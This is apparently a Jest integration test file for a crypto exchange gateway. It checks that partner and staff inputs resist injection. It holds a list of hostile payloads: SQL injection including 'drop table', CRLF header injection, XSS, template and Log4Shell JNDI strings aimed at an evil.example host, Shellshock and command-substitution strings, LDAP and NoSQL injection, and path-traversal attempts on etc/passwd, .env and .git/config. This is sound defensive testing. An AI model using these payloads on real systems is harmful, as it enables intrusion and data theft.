import { permissions } from '../../src/accounts/staff/permissions.ts';
import type { StaffRole } from '../../src/accounts/staff/staff-member.entity.ts';
import { addressExample } from '../../src/chains/addresses/address.ts';
import { buildStaffSchema } from '../../src/surfaces/graphql/schema.ts';
import { permissionOf } from '../../src/surfaces/graphql/server/requires-permission.ts';
import { changingNothing } from '../support/database/database-state.ts';
import { startGateway } from '../support/gateway/gateway.ts';
import { LogSink } from '../support/gateway/log-sink.ts';
import { orderBody } from '../support/gateway/orders.ts';
import { type SettledGateway, startSettledGateway } from '../support/gateway/settled-gateway.ts';
import { rawExchange } from '../support/http/raw-http.ts';
import { rootFields, selectionOf } from '../support/http/schema-walk.ts';
import { attempt } from '../support/jest/attempts.ts';
import { StaffBrowser } from '../support/staff/staff-browser.ts';
import { kinds, type Member, newMember } from '../support/staff/staff-client.ts';
import { openSocket, refusedOn } from '../support/staff/staff-socket.ts';

/**
 * OWASP API8:2023, security misconfiguration, injection into SQL, headers, the log, pages, GraphQL
 * and a file system. Redirects after a sign-in are in test/integration/staff/sessions.test.ts.
 */

const schema = await buildStaffSchema();
const log = new LogSink();
let gateway: SettledGateway;
let key: string;
let members: Record<StaffRole, Member>;

beforeAll(async () => {
  gateway = await startSettledGateway({
    settings: {
      LOG_LEVEL: 'debug',
      RATE_LIMIT_STAFF_PER_MIN: '100000',
      PLAYGROUND: 'true',
    },
    outside: { logStream: log, background: false },
  });
  ({ key } = await gateway.partner());
  members = {
    viewer: await newMember(gateway, 'viewer'),
    support: await newMember(gateway, 'support'),
    operator: await newMember(gateway, 'operator'),
    admin: await newMember(gateway, 'admin'),
  };
});
afterAll(() => gateway?.stop());

const sql = "insert into setting (name, value) values ('injected', 'x')";
/** What each would do where a text is put together with others. */
const payloads = [
  `'; ${sql}; --`,
  `"; ${sql}; --`,
  `\\'; ${sql}; --`,
  `$$; ${sql}; --`,
  `' or 'injected' = 'injected`,
  `') or pg_sleep(3600) is null or ('injected' = '`,
  `1; drop table setting; -- injected`,
  `injected' union select value from setting --`,
  `:id:partner $1$2 ?? injected`,
  `%injected%`,
  `injected\r\nSet-Cookie: evil=1\r\n\r\n<html>`,
  `injected\u2028{"event":"evil"}\n{"event":"evil"}`,
  `\u001b[2J\u001b]0;injected\u0007`,
  '<script>injected</script><img src=x onerror=injected>',
  `{{injected}}\${injected}#{injected}<%= injected %>`,
  `\${jndi:ldap://injected.evil.example/a}`,
  '../../../../injected/etc/passwd',
  '..\\..\\injected',
  'injected%0d%0aevil: 1',
  'injected%s%n%x%p',
  '() { :; }; echo injected',
  '| touch /tmp/injected ; `touch /tmp/injected` $(touch /tmp/injected)',
  '{"$ne": "injected"}',
  '*)(uid=injected))(|(uid=*',
  '=cmd|"/c injected"!A1',
  '\u202einjected\u202c\u200b\ufeff',
  'i\u0307njected\u0130\ud83d\ude00',
  `injected${'a'.repeat(4_000)}!`,
  '<deposit address>injected',
];

async function isUntouched(): Promise<boolean> {
  const rows = await gateway.query("select name from setting where name = 'injected'");
  return rows.length === 0;
}

describe('a text of a partner', () => {
  const texts = [
    'coin_from',
    'network_from',
    'coin_to',
    'network_to',
    'rate_type',
    'recipient_address',
    'recipient_address_tag',
    'refund_address',
    'refund_address_tag',
  ];

  it.each(texts)('as %s is refused and never interpreted', async (member) => {
    await changingNothing(gateway, async () => {
      for (const payload of payloads) {
        const body = orderBody({ refund_address: addressExample('BTC'), [member]: payload });
        const reply = await gateway.call('POST', '/partner/orders', { key, body });
        attempt(`${member}: ${payload}`, [400, 422].includes(reply.status), true);
        expect([...reply.headers.keys()]).not.toContain('evil');
      }
    });
  });

  it('in the validation of an address is refused and never interpreted', async () => {
    await changingNothing(gateway, async () => {
      for (const payload of payloads) {
        const address = { coin: 'XRP', network: 'XRP', address: addressExample('XRP') };
        for (const member of ['coin', 'network', 'address', 'tag']) {
          const body = { ...address, [member]: payload };
          const reply = await gateway.call('POST', '/partner/addresses/validate', { key, body });
          attempt(`${member}: ${payload}`, [400, 422].includes(reply.status) || reply.json.valid === false, true);
        }
      }
    });
  });

  it('in a path, a query or a header is never interpreted', async () => {
    await changingNothing(gateway, async () => {
      for (const payload of payloads) {
        const encoded = encodeURIComponent(payload);
        const printable = payload.replace(/[^\x20-\x7e]/g, '');
        for (const [what, allowed, path, headers] of [
          ['an order', [404], `/partner/orders/${encoded}`, {}],
          ['an icon', [404], `/coin-icons/${encoded}.svg`, {}],
          ['a path', [404], `/${encoded}`, {}],
          ['a coin', [400, 422], `/partner/rates?coin_from=${encoded}&coin_to=BTC`, {}],
          ['a network', [400, 422], `/partner/rates?coin_from=ETH&coin_to=BTC&network_from=${encoded}`, {}],
          ['an amount', [400], `/partner/rates?coin_from=ETH&coin_to=BTC&amount=${encoded}`, {}],
          ['a member of the query', [200], `/partner/rates?coin_from=ETH&coin_to=BTC&${encoded}=${encoded}`, {}],
          [
            'a browser',
            [200],
            '/currencies',
            { 'User-Agent': printable, Referer: printable, 'Accept-Language': printable },
          ],
          ['a source coin', [422], `/partner/pairs?coin_from=${encoded}`, {}],
          ['a source network', [422], `/partner/pairs?coin_from=BTC&network_from=${encoded}`, {}],
          ['a form of amounts', [400], '/partner/assets', { Amounts: `${printable}.` }],
          ['an entity tag', [200], '/currencies', { 'If-None-Match': printable }],
          ['a request id', [200], '/currencies', { 'X-Request-Id': printable }],
          ['a trace', [200], '/currencies', { traceparent: printable, tracestate: printable, baggage: printable }],
          ['a host before a proxy', [200], '/currencies', { 'X-Forwarded-Host': printable, Forwarded: printable }],
        ] as const) {
          const reply = await gateway.call('GET', path, { key, headers });
          attempt(`${what}: ${payload}`, (allowed as readonly number[]).includes(reply.status), true);
          expect([...reply.headers].join()).not.toMatch(/injected|evil/);
        }
      }
    });
  });

  it('as an idempotency key is stored unchanged, or refused', async () => {
    for (const payload of payloads) {
      const header = payload.replace(/[^\x21-\x7e]/g, '').slice(0, 255);
      const reply = await gateway.call('POST', '/partner/orders', {
        key,
        body: orderBody(),
        headers: { 'Idempotency-Key': header },
      });
      attempt(`Idempotency-Key: ${header}`, [201, 400].includes(reply.status), true);
      if (reply.status !== 201) continue;
      const [row] = await gateway.query<{ key: string }>('select key from idempotency_key where order_id = $1', [
        reply.json.id,
      ]);
      expect(header).toContain(row?.key ?? 'no key');
      expect(reply.text).not.toContain('injected');
    }
    expect(await isUntouched()).toBe(true);
  });

  it('as a memo is paid unchanged, or refused', async () => {
    for (const network of ['XLM', 'XRP', 'TON', 'ATOM']) {
      for (const payload of payloads) {
        const body = orderBody({
          coin_to: network,
          network_to: network,
          recipient_address: addressExample(network),
          recipient_address_tag: payload.slice(0, 28),
        });
        const reply = await gateway.call('POST', '/partner/orders', { key, body });
        attempt(`a memo of ${network}: ${payload}`, [201, 422].includes(reply.status), true);
        if (reply.status !== 201) continue;
        const [row] = await gateway.query<{ tag: string }>(
          'select recipient_address_tag as tag from exchange_order where id = $1',
          [reply.json.id],
        );
        expect(row?.tag).toBe(payload.slice(0, 28));
      }
    }
    expect(await isUntouched()).toBe(true);
  });
});

describe('a file', () => {
  const inside = /exchange-partner-gateway"|root:.*:0:0|"dependencies"|PRIVATE KEY|import .* from/;
  const climbs = [
    '..',
    '%2e%2e',
    '..%2f',
    '%2e%2e%2f',
    '..%5c',
    '..\\',
    '....//',
    '..;',
    '%252e%252e%252f',
    '%c0%ae%c0%ae/',
    '%uff0e%uff0e/',
    '.%00./',
  ];
  const targets = ['package.json', 'etc/passwd', '.env', 'src/main.ts', '.git/config'];
  const roots = ['/api/v1/coin-icons/', '/api/v1/docs/', '/api/v1/', '/'];
  const staffRoots = ['/playground/', '/console/', '/console/assets/', '/console/orders/', '/sign-in/', '/'];

  it.each([
    ['public', () => gateway.app.restUrl ?? '', roots],
    ['internal', () => gateway.app.internalUrl, staffRoots],
  ] as const)('is not reached by climbing from the %s listener', async (_name, url, from) => {
    const browser = new StaffBrowser(gateway.app.internalUrl);
    await browser.post('/sign-in', { token: members.admin.token });
    for (const root of from) {
      const paths = targets.flatMap((target) => [
        ...climbs.map((climb) => `${root}${`${climb}/`.repeat(4)}${target}`),
        ...climbs.map((climb) => `${root}${climb.repeat(6)}${target}`),
        `${root}/${target}`,
        `${root}%2f${target}`,
        `${root}file:///${target}`,
        `${root}btc.svg/../../${target}`,
        `${root}${target}%00.svg`,
        `${root}${target}%00`,
      ]);
      for (const path of paths) {
        const { statuses, text } = await rawExchange(
          url(),
          `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nCookie: ${browser.cookie}\r\n\r\n`,
        );
        attempt(
          path,
          { count: statuses.length, isFound: statuses[0] === 200, isInside: inside.test(text) },
          { count: 1, isFound: false, isInside: false },
        );
      }
    }
  });

  it('is not served as an icon under the name of a prototype or of another coin', async () => {
    for (const name of [
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      '',
      '.',
      '%00',
      'btc.svg',
      'btc%00',
      'nope',
      'b%74c%2f',
      '<svg>',
    ]) {
      attempt(name, (await gateway.call('GET', `/coin-icons/${name}.svg`)).status, 404);
    }
  });
});

describe('a text of staff', () => {
  const roots = rootFields(schema).filter(({ operation }) => operation !== 'subscription');

  it.each(
    roots.map((root) => [`${root.operation} ${root.field.name}`, root] as const),
  )('in each place of %s is never interpreted', async (_name, { operation, field }) => {
    const permission = permissionOf(field);
    const member = members[permission ? permissions[permission] : 'admin'];
    const selection = selectionOf(field);
    for (const [place] of selection.matchAll(/"[^"]*"/g)) {
      for (const payload of payloads.slice(0, 16)) {
        const asked = `${operation} { ${selection.replace(place, () => JSON.stringify(payload))} }`;
        const { errors } = await member.ask(asked);
        const failures = errors.filter(({ extensions }) => extensions.code === 'INTERNAL_SERVER_ERROR');
        attempt(asked, failures, []);
      }
    }
    expect(await isUntouched()).toBe(true);
  });

  it('matches nothing in filters, searches and cursors', async () => {
    const { id } = await gateway.order();
    const { viewer, operator } = members;
    for (const text of [
      '%%%%',
      '____',
      '\\\\\\\\',
      "' or 1=1 --",
      "a'b??",
      '????',
      '$1$1',
      "\\' or true --",
      ':id:id',
    ]) {
      const { orders } = await viewer.data(
        'query ($s: String!) { a: orders(filter: { coin: $s }) { count { value } } orders(filter: { search: $s }) { edges { cursor } } }',
        { s: text },
      );
      attempt(`a search for ${text}`, orders, { edges: [] });
      const { auditLog } = await operator.data('query ($s: String!) { auditLog(target: $s) { edges { cursor } } }', {
        s: text,
      });
      attempt(`what was done to ${text}`, auditLog, { edges: [] });
    }
    for (const cursor of [`c1.${id}' or true`, `c-1.${id}`, `x1.${id}`, 'c1', `c1.${'0'.repeat(36)}`]) {
      const after = Buffer.from(cursor).toString('base64url');
      const reply = await viewer.ask('query ($after: String) { orders(after: $after) { edges { cursor } } }', {
        after,
      });
      attempt(`the cursor ${cursor}`, kinds(reply), ['invalid_value']);
    }
  });

  const fields: [StaffRole, string][] = [
    ['operator', 'mutation ($s: String!) { partnerCreate(name: $s, reason: "x") { id } }'],
    ['operator', 'mutation ($s: String!) { partnerCreate(name: "x", reason: $s) { id } }'],
    ['operator', 'mutation ($s: ID!) { keyRevoke(keyId: $s, reason: "x") { keyId } }'],
    ['operator', 'mutation ($s: String!) { orderNote(orderId: "XP-AAAAAA", text: $s) { id } }'],
    ['admin', 'mutation ($s: String!) { staffInvite(email: $s, role: VIEWER, reason: "x") { enrolmentCode } }'],
    [
      'admin',
      'mutation ($s: String!) { currencySwitch(coin: $s, network: "BTC", switches: { isActive: true }, reason: "x") { coin } }',
    ],
    ['admin', 'mutation ($s: String!) { priceOverrideEnd(coinFrom: $s, coinTo: "BTC", reason: "x") { id } }'],
    ['operator', 'query ($s: String!) { auditLog(target: $s) { edges { cursor } } }'],
    [
      'viewer',
      'query ($s: String!) { stats(from: "2026-01-01T00:00:00Z", to: "2026-01-02T00:00:00Z", by: PAIR, key: $s) { series { at } } }',
    ],
    ['viewer', 'query ($s: String!) { orders(filter: { coin: $s }) { edges { cursor } } }'],
  ];

  it.each([
    ['a NUL character', 'abcd\0'],
    ['half of a surrogate pair', 'abcd\ud800'],
  ])('that cannot be stored, %s, is refused by POST and by WebSocket', async (what, s) => {
    await changingNothing(gateway, async () => {
      for (const [role, query] of fields) {
        attempt(`${what} in ${query}`, kinds(await members[role].ask(query, { s })), ['invalid_value']);
      }
      const literal = 'mutation { partnerCreate(name: "x", reason: "a\\u0000") { id } }';
      attempt(`${what} in the operation`, kinds(await members.operator.ask(literal)), ['invalid_value']);
      const socket = await openSocket(gateway.app.internalUrl, members.viewer.token);
      const [error] = await refusedOn(socket, 'subscription ($s: ID) { orderChanged(orderId: $s) { seq } }', { s });
      attempt(`${what} by WebSocket`, error.extensions.kind, 'invalid_value');
      socket.terminate();
    });
  });

  it.each([
    '{ orders(filter: { createdFrom: "0000-01-01T00:00:00Z" }) { edges { cursor } } }',
    '{ orders(filter: { createdFrom: "0001-01-01T00:00:00+14:00" }) { edges { cursor } } }',
    '{ orders(filter: { createdFrom: "+300000-01-01T00:00:00Z" }) { edges { cursor } } }',
    '{ stats(from: "0000-01-01T00:00:00Z", to: "0000-01-02T00:00:00Z") { series { at } } }',
    '{ orders(filter: { coinFrom: "BTC", minAmount: "1e1000000" }) { edges { cursor } } }',
    '{ orders(filter: { coinFrom: "BTC", minAmount: "-1" }) { edges { cursor } } }',
    `{ orders(filter: { coinFrom: "BTC", minAmount: ${'9'.repeat(10_000)} }) { edges { cursor } } }`,
    '{ quote(input: { coinFrom: "ETH", networkFrom: "ETH", coinTo: "BTC", amount: "1.2345678901e-30" }) { rate } }',
    '{ quote(input: { coinFrom: "__proto__", coinTo: "constructor" }) { rate } }',
    '{ auditLog(after: "") { edges { cursor } } }',
    '{ orders(after: "") { edges { cursor } } }',
    '{ auditLog(staffId: "") { edges { cursor } } }',
    '{ orders(first: -2147483648) { edges { cursor } } }',
    '{ attention(limit: -1) { id } }',
    'mutation { currencyTerms(coin: "LTC", network: "LTC", terms: {}, reason: "x") { coin } }',
    'mutation { currencySwitch(coin: "LTC", network: "LTC", switches: {}, reason: "x") { coin } }',
    'mutation { staffInvite(email: "a\\u001b[2J@example.com", role: VIEWER, reason: "x") { enrolmentCode } }',
  ])('is reported as a fault of the request: %s', async (query) => {
    await changingNothing(gateway, async () => {
      const codes = (await members.admin.ask(query)).errors.map(({ extensions }) => extensions.code);
      expect(codes.length).toBeGreaterThan(0);
      attempt(
        query,
        codes.filter((code) => !['BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED'].includes(code)),
        [],
      );
    });
  });

  it('in an odd body, operation name or encoding is refused', async () => {
    const send = (body: string, headers: Record<string, string> = {}) =>
      fetch(`${gateway.app.internalUrl}/graphql`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${members.viewer.token}`, ...headers },
        body,
      }).then(({ status }) => status);
    const deep = `${'['.repeat(40_000)}${']'.repeat(40_000)}`;
    for (const body of [
      '{"query":"{ me { id } }","operationName":""}',
      '{"query":"{ me { id } }","operationName":{}}',
      '{"query":"{ me { id } }","variables":[]}',
      '{"query":"subscription { orderChanged { seq } }"}',
      '{"query":{"toString":"x"}}',
      '{"query":["{ me { id } }"]}',
      '{"__proto__":{"query":"{ me { id } }"}}',
      `{"query":"query ($id: ID!) { order(id: $id) { id } }","variables":{"id":${deep}}}`,
      'null',
      '1',
    ]) {
      attempt(body.slice(0, 60), await send(body), 400);
    }
    for (const encoding of ['gzip', 'br', 'deflate', 'x']) {
      attempt(encoding, await send('{"query":"{ me { id } }"}', { 'Content-Encoding': encoding }), 415);
    }
  });
});

describe('a request id', () => {
  it('is taken from a trusted proxy only, and only in the documented form', async () => {
    const behind = await startGateway({ settings: { TRUSTED_PROXIES: '127.0.0.0/8' } });
    try {
      const echoed = async (id: string) =>
        (
          await behind.call('GET', '/nope', { headers: { 'X-Request-Id': id, 'X-Forwarded-Proto': 'https' } })
        ).text.includes(id);
      expect(await echoed('a-request-of-the-proxy')).toBe(true);
      for (const id of [
        'short',
        'x'.repeat(65),
        'injected injected',
        'injected"x":',
        '<script>injected',
        'injected%0d%0a',
        '../injected/..',
      ]) {
        attempt(id, await echoed(id), false);
      }
    } finally {
      await behind.stop();
    }
  });
});

describe('the log', () => {
  it('has one JSON object a line, and none of the injected text of these tests', () => {
    const lines = log.lines();
    expect(lines.length).toBeGreaterThan(1_000);
    for (const line of lines) {
      expect(line.indexOf('\n')).toBe(line.length - 1);
      expect(JSON.parse(line).event).toEqual(expect.any(String));
    }
    const told = lines.filter((line) => /injected|evil|jndi|passwd/i.test(line));
    attempt(`${lines.length} lines`, told, []);
  });
});
